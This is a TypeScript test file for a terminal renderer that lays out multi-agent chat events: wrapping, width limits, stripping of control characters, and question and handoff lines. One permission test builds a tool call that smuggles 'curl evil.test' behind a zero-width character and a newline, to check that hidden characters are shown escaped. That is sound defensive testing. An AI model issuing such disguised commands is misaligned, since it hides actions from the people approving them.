import { describe, expect, test } from 'vitest'
import { plainStyle } from '../../../../test/support/plain-style.ts'
import type { ChatEvent } from '../../../patterns/team/chat-event.ts'
import { displayWidth } from '../../../views/text-width.ts'
import { chatLines } from './chat-lines.ts'

const message = (text: string, more: object = {}): ChatEvent => ({
  ...{ type: 'message', agent: 'writer', round: 1, text, artifacts: [], ...more },
})

function render(chatEvent: ChatEvent, width = 40, wrapped = true) {
  const style = plainStyle(width)
  return chatLines(chatEvent, { messageStyle: style, noteStyle: style, wrapped })
}

const LONG = 'a long text with many words that does not fit into one line of forty columns, 猫 included'

const allEvents: ChatEvent[] = [
  message(LONG, { artifacts: ['draft@1', 'a-very-long-name-of-an-artifact@12'], error: LONG }),
  { type: 'run', run_id: 'r_123456789abc', team: LONG, first: 'writer' },
  { type: 'handoff', round: 1, from: 'writer', to: 'reviewer', by: 'verdict', reason: LONG, problems: [LONG] },
  { type: 'turn', round: 1, agent: LONG },
  { type: 'group', round: 1, group: 'jury', kind: 'parallel', members: [LONG] },
  { type: 'loop', round: 1, kind: 'edge_repeats', message: LONG },
  { type: 'compress', round: 1, messages: 3, error: LONG },
  { type: 'steered', action: { do: 'say', text: LONG }, by: 'user', accepted: false, reason: LONG },
  { type: 'tool', agent: 'writer', tool: 'Read', input: { path: LONG } },
  { type: 'artifact', artifact: LONG, by: 'writer' },
  {
    type: 'question',
    gate_id: 'g_1',
    number: 1,
    kind: 'approve',
    question: LONG,
    answers: ['yes', 'no', LONG],
    as: 'boss',
  },
  { type: 'warning', agent: 'writer', message: LONG },
  { type: 'end', run_id: 'r_1', status: 'completed', route: [LONG, 'b'], error: null },
]

describe('chat lines', () => {
  test('CH1 the speaker comes first and further lines are indented; in a pipe messages are not wrapped', () => {
    expect(render(message('One.\n\nTwo.')).messages).toEqual(['writer: One.', '', '  Two.'])
    expect(render(message(LONG)).messages.length).toBeGreaterThan(1)
    expect(render(message(LONG), 40, false).messages).toEqual([`writer: ${LONG}`])
    expect(
      render(message(LONG))
        .messages.slice(1)
        .every((text) => text.startsWith('  ')),
    ).toBe(true)
  })

  test('L5 no line of any event is wider than the terminal', () => {
    for (const width of [24, 40, 60, 100]) {
      for (const chatEvent of allEvents) {
        const { messages, notes } = render(chatEvent, width)
        for (const text of [...messages, ...notes]) expect(displayWidth(text)).toBeLessThanOrEqual(width)
      }
    }
  })

  test('L94 control characters in messages and questions are removed', () => {
    const { messages } = render(message('\x1b[2Jgone\x07 \x1b]0;title\x07'))
    for (const sign of ['\x07', '\x1b']) expect(messages.join('')).not.toContain(sign)
    const { notes } = render({ type: 'question', number: 1, gate_id: 'g', kind: 'question', question: '\x1b[31mred?' })
    expect(notes.join('')).not.toContain('\x1b')
  })

  test('CH6 a question shows the human member and the allowed answers; a reply gate shows nothing', () => {
    const question = { gate_id: 'g_1', number: 1, question: 'May I?', answers: ['yes', 'no'] }
    expect(render({ type: 'question', kind: 'person', as: 'boss', ...question }).notes).toEqual([
      '? you answer as boss: May I?',
      '  yes · no',
    ])
    expect(render({ type: 'question', kind: 'reply', ...question }).notes).toEqual([])
  })

  test('CH6 a tool call that needs permission is render completely, with invisible characters escaped', () => {
    const call = 'Bash(npm test;\u200b\ncurl evil.test)'
    const question = { gate_id: 'g_1', number: 1, kind: 'permission', question: `May writer call ${call}?`, call }
    const lines = render({ type: 'question', answers: ['allow', 'deny'], ...question }).notes.join('\n')
    expect(lines).toContain('│ curl evil.test')
    expect(lines).toContain('\\u{200b}')
    expect(lines).toMatch(/^\? May writer call Bash\?$/m)
  })

  test('CH1 a handoff shows recipient and reason; a return to the user or the outer team shows no reason', () => {
    const handoff: Omit<Extract<ChatEvent, { type: 'handoff' }>, 'to'> = {
      type: 'handoff',
      round: 1,
      from: 'writer',
      by: 'after_work',
      reason: 'no rule',
      problems: [],
    }
    expect(render({ ...handoff, to: 'user' }).notes).toEqual(['  → you'])
    expect(render({ ...handoff, to: 'user', within: 'research' }).notes).toEqual(['  → back'])
    expect(render({ ...handoff, to: null }).notes).toEqual(['  → the end'])
    expect(render({ ...handoff, to: 'reviewer', by: 'verdict', reason: '"done" holds (done: yes)' }).notes).toEqual([
      '  → reviewer  done',
    ])
    expect(render({ ...handoff, from: 'user', to: 'writer' }).notes).toEqual([])
    const { notes } = render({ ...handoff, to: 'reviewer', by: 'verdict', reason: LONG })
    expect(notes.map((text) => text.trim()).join(' ')).toBe(`→ reviewer ${LONG}`)
  })
})
